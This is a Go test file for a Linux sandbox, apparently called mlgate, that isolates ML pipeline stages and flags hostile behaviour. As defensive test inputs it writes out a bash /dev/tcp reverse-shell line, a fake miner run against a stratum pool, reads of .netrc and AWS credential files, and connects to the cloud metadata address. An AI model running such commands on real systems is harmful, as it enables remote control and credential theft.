//go:build linux && (amd64 || arm64)

package run

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync/atomic"
	"syscall"
	"testing"
	"time"
)

// sandboxAvailable says why the sandbox cannot run here ("" when it can).
func sandboxAvailable() string {
	m := Probe()
	if !m.UserNS.Active && os.Geteuid() != 0 {
		return "user namespaces unavailable: " + m.UserNS.Reason
	}
	return ""
}

type stageOut struct {
	res    *Result
	stdout string
	stderr string
}

// stage runs o in the sandbox with the test binary as the helper program.
func stage(t *testing.T, o Options) stageOut {
	t.Helper()
	if why := sandboxAvailable(); why != "" {
		t.Skip(why)
	}
	if ensureHelper() == "" {
		t.Skip("could not copy the test binary to /var/tmp for the stage")
	}
	var out, errb bytes.Buffer
	o.Stdout, o.Stderr = &out, &errb
	if o.Environ == nil {
		o.Environ = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=" + os.Getenv("HOME")}
	}
	o.Environ = append(o.Environ, envHelper+"=1")
	o.Env = append(o.Env, envHelper)
	o.NoDefaultWatch = true
	if o.Dir == "" {
		o.Dir = "/"
	}
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	res, err := Run(ctx, o)
	if err != nil && strings.Contains(err.Error(), "start the sandbox") {
		t.Skipf("this kernel or container does not allow the namespaces: %v", err)
	}
	if err != nil {
		t.Fatalf("Run: %v", err)
	}
	t.Cleanup(func() {
		if !t.Failed() {
			return
		}
		for _, l := range res.Layers {
			t.Logf("layer %-24s active=%-5v %s", l.Name, l.Active, l.Reason)
		}
		for _, e := range res.Events {
			t.Logf("event %+v", e)
		}
		t.Logf("exit %d verdict %s halt %q\nstdout:\n%s\nstderr:\n%s", res.ExitCode, res.Verdict, res.HaltReason, out.String(), errb.String())
	})
	return stageOut{res, out.String(), errb.String()}
}

func hasFinding(r *Result, id string) bool {
	for _, f := range r.Findings {
		if f.RuleID == id {
			return true
		}
	}
	return false
}

func layerActive(r *Result, name string) bool {
	for _, l := range r.Layers {
		if l.Name == name {
			return l.Active
		}
	}
	return false
}

func TestStageLayersAllActive(t *testing.T) {
	s := stage(t, Options{Argv: []string{"/bin/true"}})
	if len(s.res.Layers) != len(allLayers) {
		t.Errorf("%d layers reported, want %d", len(s.res.Layers), len(allLayers))
	}
	for _, l := range s.res.Layers {
		if l.Name == LayerUserNS && !strings.Contains(l.Reason, fmt.Sprintf("uid %d ", os.Geteuid())) {
			t.Errorf("user namespace does not map the caller's uid %d: %s", os.Geteuid(), l.Reason)
		}
		if optionalLayers[l.Name] || l.Name == LayerWriteMonitor {
			continue
		}
		if !l.Active {
			t.Errorf("layer %s inactive: %s", l.Name, l.Reason)
		}
	}
	if layerActive(s.res, LayerWriteMonitor) {
		t.Error("write monitor active for a stage with nothing writable")
	}
	if s.res.ExitCode != 0 || s.res.Verdict != VerdictClean {
		t.Errorf("exit %d verdict %s findings %v", s.res.ExitCode, s.res.Verdict, s.res.Findings)
	}
}

func TestStageExitCodeKept(t *testing.T) {
	s := stage(t, Options{Argv: []string{"sh", "-c", "exit 7"}})
	if s.res.ExitCode != 7 {
		t.Errorf("exit code %d, want 7", s.res.ExitCode)
	}
}

func TestStageNetworkNoneCannotReachListener(t *testing.T) {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	var accepted atomic.Int32
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			accepted.Add(1)
			c.Close()
		}
	}()
	addr := ln.Addr().String()
	s := stage(t, Options{Argv: []string{ensureHelper(), "connect", addr}})
	if s.res.ExitCode == 0 || !strings.Contains(s.stdout, "connect failed") {
		t.Errorf("the stage reached the runner's listener: %s", s.stdout)
	}
	if accepted.Load() != 0 {
		t.Errorf("listener accepted %d connections", accepted.Load())
	}
	_, port, _ := net.SplitHostPort(addr)
	found := false
	for _, e := range s.res.Events {
		if e.Kind == EventConnect && e.Addr == "127.0.0.1" && strconv.Itoa(e.Port) == port {
			found = true
		}
	}
	if !found {
		t.Errorf("failed connect attempt to %s not recorded: %+v", addr, s.res.Events)
	}
}

// echoServer answers each line with "echo:" + line.
func echoServer(t *testing.T) string {
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { ln.Close() })
	go func() {
		for {
			c, err := ln.Accept()
			if err != nil {
				return
			}
			go func() {
				defer c.Close()
				buf := make([]byte, 256)
				n, _ := c.Read(buf)
				fmt.Fprintf(c, "echo:%s", buf[:n])
			}()
		}
	}()
	return ln.Addr().String()
}

func TestStageEgressProxyAllowAndDeny(t *testing.T) {
	upstream := echoServer(t)
	var dialed []string
	dial := func(ctx context.Context, network, addr string) (net.Conn, error) {
		dialed = append(dialed, addr)
		var d net.Dialer
		return d.DialContext(ctx, network, upstream) // every allowed name maps to the local echo server
	}
	var rules []HostRule
	for _, h := range []string{"huggingface.co:443", "*.hf.co:443"} {
		r, err := ParseHostRule(h)
		if err != nil {
			t.Fatal(err)
		}
		rules = append(rules, r)
	}
	s := stage(t, Options{
		Argv:    []string{ensureHelper(), "proxy", "huggingface.co:443", "cdn-lfs.hf.co:443", "evil.example:443", "hf.co:443"},
		Network: NetworkAllow, AllowHosts: rules, Dial: dial,
	})
	for _, want := range []string{"huggingface.co:443 200 <nil>", "cdn-lfs.hf.co:443 200 <nil>", "evil.example:443 403 <nil>", "hf.co:443 403 <nil>"} {
		if !strings.Contains(s.stdout, want) {
			t.Errorf("stage output lacks %q", want)
		}
	}
	if len(dialed) != 2 {
		t.Errorf("proxy dialed %v, want the two allowed hosts only", dialed)
	}
	var allowed, denied []string
	for _, e := range s.res.Events {
		if e.Kind == EventEgress {
			if *e.Allowed {
				allowed = append(allowed, e.Host)
			} else {
				denied = append(denied, e.Host)
			}
		}
	}
	if strings.Join(allowed, ",") != "huggingface.co,cdn-lfs.hf.co" || strings.Join(denied, ",") != "evil.example,hf.co" {
		t.Errorf("egress log: allowed %v denied %v", allowed, denied)
	}
	if !hasFinding(s.res, "run/egress-denied") {
		t.Error("no run/egress-denied finding")
	}
}

func TestStageShortLivedProcessesAllSeen(t *testing.T) {
	const n = 200
	s := stage(t, Options{Argv: []string{"sh", "-c", fmt.Sprintf("i=0; while [ $i -lt %d ]; do sh -c 'true'; i=$((i+1)); done", n)}})
	seen := 0
	for _, e := range s.res.Events {
		if e.Kind == EventExec && strings.Join(e.Argv, " ") == "sh -c true" {
			seen++
		}
	}
	if seen != n {
		t.Errorf("saw %d of %d short-lived children", seen, n)
	}
	if s.res.ExitCode != 0 {
		t.Errorf("exit %d", s.res.ExitCode)
	}
}

func TestStageMissingProgramsCountedNotListed(t *testing.T) {
	env := []string{"PATH=/nonexistent-a:/nonexistent-b:/usr/bin:/bin", "HOME=/"}
	s := stage(t, Options{Argv: []string{"sh", "-c", "env no-such-program-mlgate; cd /usr/bin && ./true && env true; echo done"}, Environ: env})
	if !strings.Contains(s.stdout, "done") || s.res.ExitCode != 0 {
		t.Fatalf("exit %d stdout %q", s.res.ExitCode, s.stdout)
	}
	// no-such-program-mlgate: 4 PATH directories; true: 2 before /usr/bin.
	if s.res.ExecsNotFound < 6 {
		t.Errorf("execs_not_found %d, want at least 6", s.res.ExecsNotFound)
	}
	var paths []string
	for _, e := range s.res.Events {
		if e.Kind == EventExec {
			paths = append(paths, e.Path)
		}
	}
	got := strings.Join(paths, " ")
	if strings.Contains(got, "no-such-program") || strings.Contains(got, "nonexistent") {
		t.Errorf("missing programs listed: %s", got)
	}
	if !strings.Contains(got, "./true") {
		t.Errorf("relative exec of an existing program not recorded: %s", got)
	}
}

func TestStageOneMillisecondChildAndFailedConnect(t *testing.T) {
	s := stage(t, Options{Argv: []string{"sh", "-c", "/bin/true; /bin/true; " + ensureHelper() + " connect 10.255.255.1:9"}})
	trues, connects := 0, 0
	var parent int
	for _, e := range s.res.Events {
		if e.Kind == EventExec && e.Path == "/bin/true" {
			trues++
			if parent == 0 {
				parent = e.PPID
			}
		}
		if e.Kind == EventConnect && e.Addr == "10.255.255.1" && e.Port == 9 {
			connects++
		}
	}
	if trues != 2 || connects != 1 {
		t.Errorf("saw %d /bin/true execs (want 2) and %d connects (want 1)", trues, connects)
	}
	if parent == 0 {
		t.Error("parent of /bin/true not recorded")
	}
}

func TestStageMinerCaught(t *testing.T) {
	dir := t.TempDir()
	_ = os.Chmod(dir, 0o755)
	miner := filepath.Join(dir, "xmrig")
	if err := os.Symlink(ensureHelper(), miner); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{miner, "miner", "-o", "stratum+tcp://pool.example.org:3333"}, RO: []string{dir}})
	if !hasFinding(s.res, "run/crypto-miner") {
		t.Errorf("miner not caught: %v", s.res.Findings)
	}
	if s.res.ExitCode != 0 {
		t.Errorf("audit mode must keep the stage's exit code; got %d", s.res.ExitCode)
	}

	e := stage(t, Options{Argv: []string{"sh", "-c", miner + " miner -o stratum+tcp://pool.example.org:3333; echo after"}, RO: []string{dir}, Mode: ModeEnforce})
	if e.res.Verdict != VerdictHalted || !strings.Contains(e.res.HaltReason, "run/crypto-miner") {
		t.Errorf("enforce: verdict %s reason %q", e.res.Verdict, e.res.HaltReason)
	}
	if strings.Contains(e.stdout, "pretending to mine") || strings.Contains(e.stdout, "after") {
		t.Errorf("enforce mode let the stage go on: %q", e.stdout)
	}
}

func TestStageReverseShellCaughtAndKilled(t *testing.T) {
	s := stage(t, Options{Argv: []string{ensureHelper(), "revshell"}})
	if !hasFinding(s.res, "run/reverse-shell") {
		t.Errorf("reverse shell not caught: %v", s.res.Findings)
	}
	if !strings.Contains(s.stdout, "shell-ran") {
		t.Errorf("audit mode should let the shell run: %q", s.stdout)
	}
	e := stage(t, Options{Argv: []string{ensureHelper(), "revshell"}, Mode: ModeEnforce})
	if e.res.Verdict != VerdictHalted || !strings.Contains(e.res.HaltReason, "run/reverse-shell") {
		t.Errorf("enforce: verdict %s reason %q", e.res.Verdict, e.res.HaltReason)
	}
	if strings.Contains(e.stdout, "shell-ran") {
		t.Errorf("enforce mode let the shell run: %q", e.stdout)
	}
	if e.res.ExitCode != 128+int(syscall.SIGKILL) {
		t.Errorf("halted stage exit %d, want %d (killed)", e.res.ExitCode, 128+int(syscall.SIGKILL))
	}
}

// outsideTmp makes a directory the stage sees as the runner does (not
// under /tmp, which the stage gets as a fresh tmpfs).
func outsideTmp(t *testing.T) string {
	dir, err := os.MkdirTemp("/var/tmp", "mlgate-run-test-")
	if err != nil {
		t.Skip("no /var/tmp: ", err)
	}
	t.Cleanup(func() { os.RemoveAll(dir) })
	return dir
}

func TestStageWritesOnlyWhereGrantedAndReported(t *testing.T) {
	out := outsideTmp(t)
	other := outsideTmp(t)
	s := stage(t, Options{
		Argv:  []string{"sh", "-c", fmt.Sprintf("%s write %s/model.bin; %s write %s/evil.txt; echo x > /tmp/scratch && cat /tmp/scratch", ensureHelper(), out, ensureHelper(), other)},
		RW:    []string{out},
		Watch: []string{out},
	})
	if _, err := os.Stat(filepath.Join(out, "model.bin")); err != nil {
		t.Errorf("granted write missing: %v", err)
	}
	if _, err := os.Stat(filepath.Join(other, "evil.txt")); err == nil {
		t.Error("the stage wrote outside its --rw paths")
	}
	if !strings.Contains(s.stdout, "write failed") || !strings.Contains(s.stdout, "x\n") {
		t.Errorf("stdout %q", s.stdout)
	}
	found := false
	for _, c := range s.res.FileChanges {
		if c.Path == filepath.Join(out, "model.bin") && c.Change == ChangeAdded && c.SHA256 != "" {
			found = true
		}
	}
	if !found || !hasFinding(s.res, "run/watched-path-changed") {
		t.Errorf("watched write not reported: %+v %v", s.res.FileChanges, s.res.Findings)
	}
}

func TestStageReadOnlyCarveOut(t *testing.T) {
	out := outsideTmp(t)
	ro := filepath.Join(out, "config")
	if err := os.Mkdir(ro, 0o755); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{"sh", "-c", fmt.Sprintf("%s write %s/ok; %s write %s/no", ensureHelper(), out, ensureHelper(), ro)}, RW: []string{out}, RO: []string{ro}})
	if _, err := os.Stat(filepath.Join(ro, "no")); err == nil {
		t.Error("wrote into a --ro carve-out")
	}
	if _, err := os.Stat(filepath.Join(out, "ok")); err != nil {
		t.Error("could not write into the --rw tree")
	}
	_ = s
}

func TestStageCredentialFilesHidden(t *testing.T) {
	home := outsideTmp(t)
	_ = os.Chmod(home, 0o755)
	if err := os.MkdirAll(filepath.Join(home, ".aws"), 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(home, ".aws/credentials"), []byte("aws-secret-value"), 0o644)
	os.WriteFile(filepath.Join(home, ".netrc"), []byte("netrc-secret-value"), 0o644)
	env := []string{"PATH=/usr/bin:/bin", "HOME=" + home}
	s := stage(t, Options{Argv: []string{"sh", "-c", fmt.Sprintf("%[1]s read %[2]s/.netrc; %[1]s read %[2]s/.aws/credentials; ls %[2]s/.aws", ensureHelper(), home)}, Home: home, Environ: env})
	if strings.Contains(s.stdout, "secret-value") {
		t.Errorf("credential readable: %q", s.stdout)
	}
	if strings.Count(s.stdout, "read failed") != 2 {
		t.Errorf("want two failed reads: %q", s.stdout)
	}
	if !hasFinding(s.res, "run/credential-access") {
		t.Error("credential hunting not reported")
	}
	g := stage(t, Options{Argv: []string{ensureHelper(), "read", home + "/.netrc"}, Home: home, Environ: env, AllowCredentials: []string{"~/.netrc"}})
	if !strings.Contains(g.stdout, "netrc-secret-value") {
		t.Errorf("granted credential not readable: %q", g.stdout)
	}
}

func TestStageEnvironmentScrubbed(t *testing.T) {
	env := []string{"PATH=/usr/bin:/bin", "AWS_SECRET_ACCESS_KEY=leak1", "HF_TOKEN=hf_pass", "GITHUB_TOKEN=leak2", "MY_SETTING=plain"}
	s := stage(t, Options{Argv: []string{"env"}, Environ: env, Secrets: []string{"HF_TOKEN"}, Env: []string{"MY_SETTING"}})
	for _, bad := range []string{"leak1", "leak2"} {
		if strings.Contains(s.stdout, bad) {
			t.Errorf("unnamed secret reached the stage: %s", bad)
		}
	}
	for _, good := range []string{"HF_TOKEN=hf_pass", "MY_SETTING=plain"} {
		if !strings.Contains(s.stdout, good) {
			t.Errorf("named variable missing: %s", good)
		}
	}
}

func TestStageSeccompDenies(t *testing.T) {
	s := stage(t, Options{Argv: []string{"sh", "-c", ensureHelper() + " unshare-user; unshare -U true; echo unshare=$?; mount -t tmpfs none /mnt; echo mount=$?"}})
	if !strings.Contains(s.stdout, "clone newuser: fork/exec /bin/true: operation not permitted") {
		t.Errorf("clone(CLONE_NEWUSER) not refused: %q", s.stdout)
	}
	if strings.Contains(s.stdout, "unshare=0") || strings.Contains(s.stdout, "mount=0") {
		t.Errorf("unshare or mount succeeded: %q", s.stdout)
	}
}

func TestStageExecFromMemory(t *testing.T) {
	s := stage(t, Options{Argv: []string{ensureHelper(), "memexec"}})
	if !hasFinding(s.res, "run/exec-from-memory") {
		t.Errorf("memfd execution not caught: %+v", s.res.Events)
	}
}

func TestStageCloudMetadata(t *testing.T) {
	s := stage(t, Options{Argv: []string{ensureHelper(), "connect", "169.254.169.254:80"}})
	if !hasFinding(s.res, "run/cloud-metadata") {
		t.Errorf("metadata access not caught: %v", s.res.Findings)
	}
	if s.res.ExitCode == 0 {
		t.Error("the metadata service was reachable from the stage")
	}
	connected := false
	for _, e := range s.res.Events {
		connected = connected || (e.Kind == EventConnect && e.Addr == "169.254.169.254" && e.Port == 80)
	}
	if !connected {
		t.Error("the connect attempt itself was not recorded")
	}
}

func TestStageHaltsWholeTree(t *testing.T) {
	// Background processes hold a file open; once the stage is halted no
	// process anywhere may still hold it.
	out := outsideTmp(t)
	held := filepath.Join(out, "held")
	script := fmt.Sprintf("(sleep 1000 > %[1]s) & (sh -c 'sleep 1000' >> %[1]s &) ; until [ -e %[1]s ]; do sleep 0.01; done; %[2]s connect 169.254.169.254:80; echo not-halted", held, ensureHelper())
	// The script goes in a file: on the command line, the metadata address
	// would halt the stage at its very first exec.
	scriptFile := filepath.Join(out, "stage.sh")
	if err := os.WriteFile(scriptFile, []byte(script+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{"sh", scriptFile}, RW: []string{out}, Mode: ModeEnforce})
	if s.res.Verdict != VerdictHalted || !strings.Contains(s.res.HaltReason, "run/cloud-metadata") || strings.Contains(s.stdout, "not-halted") {
		t.Fatalf("not halted: %s %q", s.res.Verdict, s.stdout)
	}
	if _, err := os.Stat(held); err != nil {
		t.Fatalf("the background process never started: %v", err)
	}
	procs, _ := filepath.Glob("/proc/[0-9]*/fd/*")
	for _, fd := range procs {
		if l, err := os.Readlink(fd); err == nil && l == held {
			t.Errorf("a background process survived the halt: %s", fd)
		}
	}
}

func TestStageModelWriterAttributed(t *testing.T) {
	model := outsideTmp(t)
	other := outsideTmp(t)
	s := stage(t, Options{Argv: []string{ensureHelper(), "writemodel", model, other}, ModelOutput: model, RW: []string{other}})
	if s.res.ExitCode != 0 {
		t.Fatalf("exit %d: %s", s.res.ExitCode, s.stdout)
	}
	if !layerActive(s.res, LayerWriteMonitor) {
		t.Fatal("write monitor inactive")
	}
	type key struct{ op, path, exe string }
	seen := map[key]bool{}
	for _, e := range s.res.Events {
		if e.Kind == EventWrite {
			seen[key{e.Op, e.Path, filepath.Base(e.Exe)}] = true
			if e.PID == 0 || e.Exe == "" {
				t.Errorf("write event without its process: %+v", e)
			}
		}
	}
	for _, want := range []key{
		{OpOpen, model + "/model.bin", "helper"},
		{OpOpen, model + "/by-openat2.bin", "helper"},
		{OpOpen, model + "/model.bin", "dash"},
		{OpOpen, other + "/log", "dash"},
		{OpRename, model + "/swapped", "mv"},
		{OpOpen, model + "/evil", "dash"},
	} {
		if want.exe == "dash" && !seen[want] {
			if _, err := os.Stat("/bin/dash"); err != nil {
				want.exe = "bash"
			}
		}
		if !seen[want] {
			t.Errorf("write event %+v not recorded; got %v", want, seen)
		}
	}
	var msgs []string
	for _, f := range s.res.Findings {
		if f.RuleID == "run/unexpected-model-writer" {
			msgs = append(msgs, f.Message)
		}
	}
	all := strings.Join(msgs, "\n")
	for _, want := range []string{"opened " + model + "/model.bin", "renamed " + other + "/staged to " + model + "/swapped", "opened " + model + "/evil"} {
		if !strings.Contains(all, want) {
			t.Errorf("no finding for %q in:\n%s", want, all)
		}
	}
	for _, bad := range []string{"/helper opened", "/helper renamed", "/cat ", other + "/log", "by-openat2"} {
		for _, m := range msgs {
			if strings.Contains(m, bad) {
				t.Errorf("false positive (%s): %s", bad, m)
			}
		}
	}
	if len(msgs) != 3 {
		t.Errorf("%d model-writer findings, want 3:\n%s", len(msgs), all)
	}

	// A stage that only reads the model output: no write events at all.
	r := stage(t, Options{Argv: []string{"sh", "-c", "cat " + model + "/model.bin; ls " + model}, ModelOutput: model})
	for _, e := range r.res.Events {
		if e.Kind == EventWrite {
			t.Errorf("read reported as a write: %+v", e)
		}
	}
	if hasFinding(r.res, "run/unexpected-model-writer") {
		t.Error("reading the model output reported")
	}

	// With a policy's writer list, the stage's own program is no longer
	// expected unless listed.
	p := stage(t, Options{Argv: []string{ensureHelper(), "writemodel", model, other}, ModelOutput: model, RW: []string{other}, ModelWriters: []string{"mv", "sh", "dash", "bash"}})
	found := false
	for _, f := range p.res.Findings {
		found = found || (f.RuleID == "run/unexpected-model-writer" && strings.Contains(f.Message, "helper opened "+model+"/model.bin"))
	}
	if !found || strings.Contains(fmt.Sprint(p.res.Findings), "running /usr/bin/mv") {
		t.Errorf("policy writers not applied: %v", p.res.Findings)
	}
}

func TestStageDefaultWatchLeftToLandlock(t *testing.T) {
	home := outsideTmp(t)
	_ = os.Chmod(home, 0o755)
	sp := filepath.Join(home, ".local/lib/python3.99/site-packages")
	if err := os.MkdirAll(sp, 0o755); err != nil {
		t.Fatal(err)
	}
	os.WriteFile(filepath.Join(sp, "pkg.py"), []byte("x = 1\n"), 0o644)
	env := []string{"PATH=/usr/bin:/bin", "HOME=" + home}
	write := fmt.Sprintf("%s write %s/evil.pth", ensureHelper(), sp)
	o := Options{Argv: []string{"sh", "-c", write}, Home: home, Environ: env}
	// stage() turns the default watch off; this test needs it on.
	run := func(o Options) stageOut {
		o.Environ = append(o.Environ, envHelper+"=1")
		o.Env = append(o.Env, envHelper)
		o.Dir = "/"
		var out bytes.Buffer
		o.Stdout, o.Stderr = &out, io.Discard
		if why := sandboxAvailable(); why != "" {
			t.Skip(why)
		}
		res, err := Run(context.Background(), o)
		if err != nil {
			t.Fatal(err)
		}
		return stageOut{res: res, stdout: out.String()}
	}
	s := run(o)
	if !slicesContains(s.res.ReadOnlyTrees, sp) || slicesContains(s.res.Watched, sp) {
		t.Errorf("site-packages not left to landlock: watched %v read-only %v", s.res.Watched, s.res.ReadOnlyTrees)
	}
	if !strings.Contains(s.stdout, "write failed") {
		t.Errorf("the stage wrote into a read-only default tree: %q", s.stdout)
	}
	if len(s.res.Errors) != 0 {
		t.Errorf("errors %v", s.res.Errors)
	}
	// Writable site-packages: walked before and after, and the write found.
	o.RW = []string{sp}
	w := run(o)
	if !slicesContains(w.res.Watched, sp) || !hasFinding(w.res, "run/site-packages-modified") {
		t.Errorf("writable site-packages: watched %v findings %v stdout %q", w.res.Watched, w.res.Findings, w.stdout)
	}
}

// TestAsUnprivileged runs every TestStage test again as uid 65534, the
// way an ordinary CI user would run mlgate.
func TestAsUnprivileged(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("already unprivileged")
	}
	if os.Getenv("MLGATE_RUN_TEST_NESTED") != "" || testing.Short() {
		t.Skip("nested or -short")
	}
	if ensureHelper() == "" {
		t.Skip("no helper copy")
	}
	cmd := exec.Command(ensureHelper(), "-test.run", "^TestStage", "-test.v", "-test.count=1")
	cmd.Env = []string{"PATH=/usr/local/bin:/usr/bin:/bin", "HOME=/nonexistent", "MLGATE_RUN_TEST_NESTED=1"}
	cmd.Dir = "/"
	cmd.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	var buf bytes.Buffer
	cmd.Stdout, cmd.Stderr = &buf, &buf
	err := cmd.Run()
	out := buf.String()
	t.Log(out)
	if err == nil && strings.Contains(out, "user namespaces unavailable") {
		t.Skip("unprivileged user namespaces are not available here")
	}
	if err != nil {
		t.Fatalf("unprivileged run failed: %v", err)
	}
	if n := strings.Count(out, "--- PASS: TestStage"); n < 10 || strings.Contains(out, "--- SKIP") {
		t.Errorf("%d stage tests passed unprivileged; skips: %v", n, strings.Contains(out, "--- SKIP"))
	}
	_ = io.Discard
}

// TestRootWithoutUserNS covers the fallback for runners where user
// namespaces are forbidden but mlgate runs as root: every other layer must
// still be active, and the missing one reported.
func TestRootWithoutUserNS(t *testing.T) {
	if os.Geteuid() != 0 {
		t.Skip("needs root: without a user namespace only root can create the other namespaces")
	}
	s := stage(t, Options{Argv: []string{"sh", "-c", "grep -E '^Cap(Eff|Bnd)' /proc/self/status"}, NoUserNS: true})
	for _, l := range s.res.Layers {
		if optionalLayers[l.Name] || l.Name == LayerWriteMonitor {
			continue
		}
		if l.Active == (l.Name == LayerUserNS) {
			t.Errorf("layer %s active=%v: %s", l.Name, l.Active, l.Reason)
		}
	}
	if strings.Count(s.stdout, "0000000000000000") != 2 {
		t.Errorf("capabilities not dropped as real root: %q", s.stdout)
	}
	if hasFinding(s.res, "run/isolation-layer-missing") {
		t.Error("a layer disabled on request is not a finding")
	}
}

func TestStageWorkingDirUnderTmp(t *testing.T) {
	dir := t.TempDir() // under /tmp, which the stage gets as a fresh tmpfs
	_ = os.Chmod(dir, 0o755)
	if err := os.WriteFile(filepath.Join(dir, "input.txt"), []byte("dataset"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{"sh", "-c", "cat input.txt; echo; echo x > new.txt; echo rc=$?"}, Dir: dir})
	if !strings.HasPrefix(s.stdout, "dataset\n") || strings.Contains(s.stdout, "rc=0") {
		t.Errorf("working directory under /tmp: want readable and read-only, got %q", s.stdout)
	}
}

func TestStageDevTCPReverseShellHalted(t *testing.T) {
	if _, err := os.Stat("/bin/bash"); err != nil {
		t.Skip("no bash")
	}
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	script := "echo before; bash -c 'bash -i >& /dev/tcp/" + strings.Replace(ln.Addr().String(), ":", "/", 1) + " 0>&1'; echo after"
	dir := outsideTmp(t)
	_ = os.Chmod(dir, 0o755)
	if err := os.WriteFile(filepath.Join(dir, "stage.sh"), []byte(script+"\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	s := stage(t, Options{Argv: []string{"/bin/sh", filepath.Join(dir, "stage.sh")}, Mode: ModeEnforce})
	if s.res.Verdict != VerdictHalted || !strings.Contains(s.res.HaltReason, "run/reverse-shell") {
		t.Errorf("verdict %s reason %q", s.res.Verdict, s.res.HaltReason)
	}
	if !strings.Contains(s.stdout, "before") || strings.Contains(s.stdout, "after") {
		t.Errorf("stdout %q", s.stdout)
	}
}

func TestStageNetworkHost(t *testing.T) {
	addr := echoServer(t)
	s := stage(t, Options{Argv: []string{ensureHelper(), "connect", addr}, Network: NetworkHost})
	if s.res.ExitCode != 0 || layerActive(s.res, LayerNetNS) {
		t.Errorf("--network host: exit %d, netns active %v", s.res.ExitCode, layerActive(s.res, LayerNetNS))
	}
	if hasFinding(s.res, "run/isolation-layer-missing") {
		t.Error("a network namespace left out on request is not a finding")
	}
}

func TestStageUnconnectedDatagramSeen(t *testing.T) {
	s := stage(t, Options{Argv: []string{ensureHelper(), "udp", "169.254.169.254:53"}})
	seen := false
	for _, e := range s.res.Events {
		if e.Kind == EventSendto && e.Addr == "169.254.169.254" && e.Port == 53 {
			seen = true
		}
	}
	if !seen || !hasFinding(s.res, "run/cloud-metadata") {
		t.Errorf("sendto to the metadata address not seen (seen=%v): %v", seen, s.res.Findings)
	}
}

func TestStageMissingCommand(t *testing.T) {
	s := stage(t, Options{Argv: []string{"no-such-command-mlgate"}})
	if s.res.ExitCode != 127 || len(s.res.Errors) == 0 || s.res.Verdict != VerdictError {
		t.Errorf("exit %d errors %v verdict %s", s.res.ExitCode, s.res.Errors, s.res.Verdict)
	}
	if len(s.res.Layers) != len(allLayers) {
		t.Errorf("%d layers reported, want all %d", len(s.res.Layers), len(allLayers))
	}
	if len(s.res.Findings) != 0 {
		t.Errorf("a command that does not exist is an error, not findings: %v", s.res.Findings)
	}
}
